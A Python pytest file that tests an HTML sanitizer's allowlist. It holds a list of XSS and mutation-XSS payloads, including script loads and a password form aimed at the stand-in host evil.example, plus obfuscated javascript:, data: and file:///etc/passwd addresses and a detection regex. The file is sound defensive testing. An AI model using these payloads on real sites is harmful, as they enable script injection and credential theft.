"""clean() leaves nothing but the elements and attributes of the allowlist."""

import re

import pytest

from posts.text import html

# What a cleaned text never contains.
FORBIDDEN = re.compile(
    r"<(script|iframe|style|svg|math|object|embed|form|input|button|template|meta|link|base)\b"
    r"|<[^>]*\s(on\w+|style|srcdoc|formaction)\s*="
    r"|(href|src)=\"\s*(javascript|data|vbscript|file)",
    re.IGNORECASE,
)

ATTACKS = {
    "script": "<p>a</p><script>alert(1)</script><p>b</p>",
    "script in capitals": "<p>a</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script split by a null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "event handler": '<p onclick="alert(1)">a</p><img src="/a.png" onerror=alert(1)>',
    "event handler after a slash": '<img/src="/a.png"/onerror=alert(1)>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>p{background:url(//evil.example)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">a</p>',
    "form": '<form action="//evil.example"><input name=password><button>Go</button></form>',
    "object": '<object data="evil.swf"></object><embed src="evil.swf">',
    "base": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "comment": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<p>a</p><![CDATA[<script>alert(1)</script>]]>",
    "CDATA in svg": "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "nested forms mutation": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "raw text": "<textarea><script>alert(1)</script></textarea><xmp><script>x</script></xmp>",
    "attribute that closes": '<img src="/a.png" alt="\'&quot;><script>alert(1)</script>">',
}


@pytest.mark.parametrize("name", ATTACKS)
def test_no_executable_markup_is_left(name: str) -> None:
    for short in (False, True):
        assert not FORBIDDEN.search(html.clean(ATTACKS[name], short=short))


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#9;script:alert(1)",
        "java&Tab;script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61&#x76&#x61script:alert(1)",
        "java\x00script:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://example.org/1",
    ],
)
def test_an_executable_address_is_removed(address: str) -> None:
    cleaned = html.clean(f'<p><a href="{address}">link</a><img src="{address}" alt="x"></p>')
    assert cleaned == "<p>link</p>"


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/a?b=1#c",
        "/articles/a/",
        "#minute",  # The heading has this anchor.
        "mailto:desk@example.org",
        "tel:911",
    ],
)
def test_an_allowed_address_stays(address: str) -> None:
    text = f'<h2 id="minute">Minute</h2><p><a href="{address}">link</a></p>'
    assert html.clean(text) == text


EVERYTHING = (
    '<h2 id="one">One</h2><h3>Two</h3><h4>Three</h4>'
    "<p><strong>a</strong> <em>b</em> <s>c</s> <sub>d</sub> <sup>e</sup> <code>f</code><br>g</p>"
    '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><hr><pre>kept   as it is</pre>'
    '<blockquote class="pull"><p>Said.</p><p><cite>Who</cite></p></blockquote>'
    '<figure class="wide image"><img src="/media/a.jpg" alt="A room" width="800" height="600">'
    "<figcaption>Night</figcaption></figure>"
    '<table><caption>Calls</caption><thead><tr><th scope="col">Hour</th><th colspan="2">All</th>'
    '</tr></thead><tbody><tr><td>1</td><td>2</td><td rowspan="2">3</td></tr></tbody></table>'
    '<p><a href="/x" title="Read on">x</a></p>'
)


def ordered(text: str) -> list[str]:
    """The tags and words of a text, the attributes of each tag in one order."""
    parts = re.findall(r"<[^>]*>|[^<]+", text)
    return [" ".join(sorted(re.findall(r'[\w-]+="[^"]*"|[^\s<>]+', part))) for part in parts]


def test_everything_that_the_editor_offers_stays() -> None:
    assert ordered(html.clean(EVERYTHING)) == ordered(EVERYTHING)


def test_obsolete_elements_are_renamed() -> None:
    assert (
        html.clean("<h1>A</h1><p><b>b</b><i>i</i><strike>s</strike></p><h6>C</h6>")
        == "<h2>A</h2><p><strong>b</strong><em>i</em><s>s</s></p><h4>C</h4>"
    )


def test_an_introduction_has_no_pictures_and_no_tables_without_figures() -> None:
    assert (
        html.clean(
            '<p>a<img src="/a.png" alt="b"></p><table><tr><td>c</td></tr></table>', short=True
        )
        == "<p>a</p><p>c</p>"
    )


@pytest.mark.parametrize("attribute", ['width="100%"', 'width="9999999"', 'height="x"'])
def test_a_size_is_a_number_of_pixels(attribute: str) -> None:
    cleaned = html.clean(f'<img src="/a.png" alt="a" {attribute}>')
    assert cleaned == '<img src="/a.png" alt="a">'


def test_a_picture_without_a_source_is_removed() -> None:
    assert html.clean('<p>a<img alt="b"></p>') == "<p>a</p>"


def test_an_unknown_class_is_removed() -> None:
    assert html.clean('<figure class="evil"><img src="/a.png" alt=""></figure>') == (
        '<figure><img src="/a.png" alt=""></figure>'
    )


def test_unclosed_tags_are_closed() -> None:
    assert html.clean("<p>a<strong>b<p>c<ul><li>d") == (
        "<p>a<strong>b</strong></p><p><strong>c</strong></p><ul><li><strong>d</strong></li></ul>"
    )


def test_null_bytes_are_removed() -> None:
    # PostgreSQL cannot store them.
    assert html.clean("<p>a\x00b</p>") == "<p>ab</p>"


def test_an_empty_element_is_removed_but_its_space_stays() -> None:
    assert html.clean("<p>a<em> </em>b</p><p><strong>&nbsp;</strong></p><h2></h2>") == "<p>a b</p>"


MUTATING = [
    "<p>a<fieldset><p>b</p></fieldset>c</p>",
    "<p><button><p>x</p></button></p>",
    "<pre>\n\n\n\n\n\n\n\n\n\n\n\nx</pre>",
    "<a href=1><table><a href=2>",
    "<table><p>a<tr><td>b",
    "<ul><ul><li>x</ul><p>y<li>z",
    "<b><p>x</b>y",
    "<blockquote><dl><dd><blockquote>",
    "a & b &amp; c &lt;p&gt; d\xa0e",
    '<a href="x" title="<b>hi</b>">l</a>',
    *ATTACKS.values(),
    EVERYTHING,
]


@pytest.mark.parametrize("text", MUTATING)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    for short in (False, True):
        once = html.clean(text, short=short)
        assert html.clean(once, short=short) == once


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta name=Generator content="Microsoft Word 15"><title>Draft 7 FINAL</title>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-parent:""; margin:0in;} --></style></head>
<body lang=EN-US style="tab-interval:.5in">TEXT</body></html>"""
WORD_PARAGRAPH = (
    "<p class=MsoNormal style='margin-bottom:0in;line-height:normal'><b><span style='font-size:"
    '12.0pt;font-family:"Times New Roman",serif;mso-fareast-font-family:"Times New Roman"\'>'
    "Answer the call.</span></b><font face=Arial><span style='mso-spacerun:yes'>&nbsp; </span>"
    "Then breathe.</font><o:p></o:p></p>\n<p class=MsoNormal><o:p>&nbsp;</o:p></p>\n"
    "<h1 style='mso-list:l0'>Why</h1><img width=9 src='file:///C:/Users/me/image001.png'>"
)


def test_two_megabytes_of_word_markup_are_cleaned() -> None:
    pasted = WORD.replace("TEXT", WORD_PARAGRAPH * (2_000_000 // len(WORD_PARAGRAPH) + 1), 1)
    assert len(pasted) > 2_000_000
    cleaned = html.clean(pasted)
    assert len(re.findall("Answer the call", cleaned)) == len(re.findall("Answer the call", pasted))
    assert set(re.findall(r"<[^>]*>", cleaned)) == {
        "<p>", "</p>", "<strong>", "</strong>", "<h2>", "</h2>",
    }  # fmt: skip
    assert "mso" not in cleaned.lower()
    assert "FINAL" not in cleaned
    assert html.clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 100_000,
        "<blockquote>" * 50_000 + "kept",
        "".join(f"<p><font size={size}></p>" for size in range(20_000)) + "<p>kept</p>",
        "".join(f"<p><b id={number}></p>" for number in range(20_000)) + "<p>kept</p>",
        "<p>" + "&nbsp;" * 100_000,
    ],
    ids=["div", "blockquote", "misnested font", "misnested bold", "spaces"],
)
def test_a_text_that_is_expensive_to_parse_is_cleaned(text: str) -> None:
    # Unguarded, each of these takes minutes or gigabytes.
    cleaned = html.clean(text)
    assert ("kept" in cleaned) == ("kept" in text)
    assert html.clean(cleaned) == cleaned


def test_deeply_nested_words_are_kept() -> None:
    assert "deep" in html.clean("<blockquote>" * 1000 + "<p>deep</p>" + "</blockquote>" * 1000)


def test_the_editor_rules_list_the_allowlist_separated_by_semicolons() -> None:
    rules = html.editor_rules().split("; ")
    assert {re.split(r"[\[(]", rule)[0] for rule in rules} == set(html.ALLOWED)
    assert "a[!href,dir,lang,title]" in rules
    assert "img[!src,alt,height,role,width]" in rules
    assert "blockquote[dir,lang](pull)" in rules
    assert "script" not in html.ALLOWED
    assert "style" not in html.ALLOWED


def test_an_introduction_has_the_boxes_of_articles_but_no_pictures_and_tables() -> None:
    text = '<section class="key-points"><ul class="checklist"><li>One</li></ul><p>Two</p></section>'
    assert html.clean(text, short=True) == text
    text = '<figure class="wide"><img src="/media/x.jpg" alt="x"></figure><h4>a</h4><pre>b</pre>'
    assert html.clean(text, short=True) == "<h3>a</h3><p>b</p>"


def test_the_short_rules_list_only_the_elements_of_an_introduction() -> None:
    rules = html.editor_rules(short=True).split("; ")
    assert {re.split(r"[\[(]", rule)[0] for rule in rules} == html.SHORT
